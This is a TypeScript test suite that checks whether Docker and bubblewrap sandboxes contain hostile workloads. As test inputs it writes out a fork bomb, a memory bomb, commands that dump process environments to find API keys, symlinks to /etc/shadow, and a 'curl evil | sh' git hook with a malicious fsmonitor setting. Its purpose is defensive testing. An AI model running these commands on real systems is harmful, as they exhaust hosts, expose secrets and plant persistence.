// Attacks a sandbox must contain. Registered by docker-security.test.ts and local-security.test.ts;
// every test runs against a real engine (real Docker, real bubblewrap) with tight limits.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { it } from 'node:test';
import { SandboxPathError } from '../../../src/sandbox/paths.ts';
import { withSandbox, type SuiteTarget } from './helpers.ts';

const MiB = 1024 * 1024;
const PROCESS_LIST = 'for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr "\\0" " "; echo; done';

export function securityTests(target: SuiteTarget): void {
  it('has no network: only loopback, and the host loopback is unreachable', async () => {
    // A server on the host's 127.0.0.1: reachable only if the sandbox shared the host's network.
    const server = net.createServer((socket) => socket.end('host-reached\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      await withSandbox(target, {}, async (sb) => {
        const dev = await sb.exec(['cat', '/proc/net/dev']);
        const interfaces = dev.stdout.split('\n').slice(2).filter(Boolean).map((l) => l.split(':')[0]?.trim());
        assert.deepEqual(interfaces, ['lo']);
        const r = await sb.exec(['node', '-e', `
          const s = require('net').connect(${port}, '127.0.0.1');
          s.on('data', (d) => { process.stdout.write(String(d)); process.exit(0); });
          s.on('error', (e) => { console.error(e.code); process.exit(3); });`], { timeoutMs: 10_000 });
        assert.equal(r.exitCode, 3, r.stdout + r.stderr);
        assert.match(r.stderr, /ECONNREFUSED/);
        assert.doesNotMatch(r.stdout, /host-reached/);
      });
    } finally {
      server.close();
    }
  });

  it('contains a fork bomb at the pids limit; sandbox and host survive', async () => {
    await withSandbox(target, { limits: { pids: 64, outputBytes: 4096 } }, async (sb) => {
      const r = await sb.exec(['bash', '-c', 'bomb() { bomb | bomb & }; bomb; sleep 2; echo survived'], { timeoutMs: 20_000 });
      assert.match(r.stderr, /Resource temporarily unavailable|fork/);
      const after = await sb.exec(['sh', '-c', 'echo alive']);
      assert.equal(after.stdout, 'alive\n');
      const ps = await sb.exec(['sh', '-c', PROCESS_LIST]);
      assert.doesNotMatch(ps.stdout, /bomb/);
      assert.equal(spawnSync('true').status, 0, 'the host can still start processes');
    });
  });

  it('OOM-kills a memory bomb and reports oomKilled', async () => {
    await withSandbox(target, { limits: { memoryBytes: 128 * MiB } }, async (sb) => {
      const r = await sb.exec(['node', '-e', 'const a = []; for (;;) a.push(Buffer.alloc(8 << 20, 1));'], { timeoutMs: 60_000 });
      assert.equal(r.oomKilled, true, `exit ${r.exitCode}: ${r.stderr.slice(0, 300)}`);
      assert.equal(r.exitCode, 137);
      assert.equal(r.timedOut, false);
      assert.equal((await sb.exec(['true'])).oomKilled, false);
    });
  });

  it('caps /tmp at tmpBytes', async () => {
    await withSandbox(target, { limits: { tmpBytes: 8 * MiB } }, async (sb) => {
      const r = await sb.exec(['sh', '-c', 'head -c 33554432 /dev/zero > /tmp/fill']);
      assert.notEqual(r.exitCode, 0);
      assert.match(r.stderr, /No space left on device/);
      const size = await sb.exec(['sh', '-c', 'wc -c < /tmp/fill']);
      assert.ok(Number(size.stdout) <= 8 * MiB, `wrote ${size.stdout.trim()} bytes`);
    });
  });

  it('cannot write outside the workspace', async () => {
    await withSandbox(target, {}, async (sb) => {
      for (const file of ['/etc/tracefix-pwned', '/usr/tracefix-pwned', '/usr/bin/tracefix-pwned', '/tracefix-pwned', '/root/x', '/var/tmp/x']) {
        const r = await sb.exec(['sh', '-c', `echo pwned > ${file}`]);
        assert.notEqual(r.exitCode, 0, `${file} was writable`);
      }
      for (const file of ['/etc/tracefix-pwned', '/usr/tracefix-pwned', '/tracefix-pwned']) {
        assert.equal(fs.existsSync(file), false, `${file} appeared on the host`);
      }
      assert.notEqual((await sb.exec(['id', '-u'])).stdout.trim(), '0', 'runs as root');
    });
  });

  it("cannot read tracefix's environment", async () => {
    const secret = `sk-fake-${process.pid}-do-not-leak`;
    process.env.TRACEFIX_FAKE_OPENAI_KEY = secret;
    process.env.OPENAI_API_KEY = secret;
    try {
      await withSandbox(target, {}, async (sb) => {
        const r = await sb.exec(['sh', '-c', 'env; cat /proc/1/environ; for f in /proc/[0-9]*/environ; do cat $f; done; true']);
        assert.equal(r.exitCode, 0);
        assert.ok(!r.stdout.includes(secret) && !r.stderr.includes(secret), 'the secret reached the sandbox');
        assert.doesNotMatch(r.stdout, /OPENAI_API_KEY|TRACEFIX_FAKE/);
      });
    } finally {
      delete process.env.TRACEFIX_FAKE_OPENAI_KEY;
      delete process.env.OPENAI_API_KEY;
    }
  });

  it('kills an infinite loop at the timeout, leaving nothing running', async () => {
    await withSandbox(target, {}, async (sb) => {
      const started = Date.now();
      const r = await sb.exec(['node', '-e', 'require("child_process").spawn("sh", ["-c", "while :; do :; done"], { detached: true }); for (;;) {}'], {
        timeoutMs: 1500,
      });
      assert.equal(r.timedOut, true);
      assert.ok(Date.now() - started < 9000, `took ${Date.now() - started} ms`);
      const ps = await sb.exec(['sh', '-c', PROCESS_LIST]);
      assert.doesNotMatch(ps.stdout, /while :; do :; done|for \(;;\)/);
    });
  });

  it('caps an output flood', async () => {
    await withSandbox(target, { limits: { outputBytes: 64 * 1024 } }, async (sb) => {
      const r = await sb.exec(['yes', 'flood'], { timeoutMs: 1500 });
      assert.equal(r.timedOut, true);
      assert.equal(r.truncated, true);
      assert.equal(Buffer.byteLength(r.stdout), 64 * 1024);
    });
  });

  it('resolves a repository symlink to a host path inside the sandbox, never on the host', async () => {
    const hostDir = fs.mkdtempSync(path.join(os.tmpdir(), 'tracefix-host-secret-'));
    const hostFile = path.join(hostDir, 'secret.txt');
    fs.writeFileSync(hostFile, 'host-marker-7c1d\n', { mode: 0o644 });
    try {
      await withSandbox(target, {}, async (sb, ws) => {
        fs.symlinkSync(hostFile, path.join(ws, 'leak'));
        fs.symlinkSync('/etc/shadow', path.join(ws, 'shadow'));
        await assert.rejects(() => sb.readFile('leak'), SandboxPathError);
        await assert.rejects(() => sb.readFile('shadow'), SandboxPathError);
        const r = await sb.exec(['sh', '-c', 'cat leak; cat shadow; true']);
        assert.doesNotMatch(r.stdout, /host-marker-7c1d/);
        const hostShadow = fs.readFileSync('/etc/shadow', 'utf8');
        assert.ok(r.stdout.trim() === '' || r.stdout !== hostShadow, 'read the host /etc/shadow');
        assert.match(r.stderr, /leak: No such file or directory/);
        // The diff shows the link itself, never the file it points at.
        assert.doesNotMatch(await sb.diff(), /host-marker-7c1d/);
      });
    } finally {
      fs.rmSync(hostDir, { recursive: true, force: true });
    }
  });

  it('cannot rewrite .git (hooks, config)', async () => {
    await withSandbox(target, {}, async (sb, ws) => {
      const hook = path.join(ws, '.git', 'hooks', 'pre-commit');
      const before = fs.readFileSync(hook, 'utf8');
      const attempts = [
        'echo "curl evil | sh" > .git/hooks/pre-commit',
        'rm -f .git/hooks/pre-commit',
        'chmod 777 .git/hooks/pre-commit',
        'echo "[core] fsmonitor = evil" >> .git/config',
        'rm -rf .git',
        'mv .git .git-moved',
      ];
      for (const attempt of attempts) {
        const r = await sb.exec(['sh', '-c', attempt]);
        assert.notEqual(r.exitCode, 0, `${attempt} succeeded`);
      }
      assert.equal(fs.readFileSync(hook, 'utf8'), before);
      assert.doesNotMatch(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8'), /evil/);
      // git inside the sandbox still reads the repository.
      const log = await sb.exec(['git', 'log', '--oneline']);
      assert.equal(log.exitCode, 0, log.stderr);
      assert.match(log.stdout, /init/);
    });
  });
}
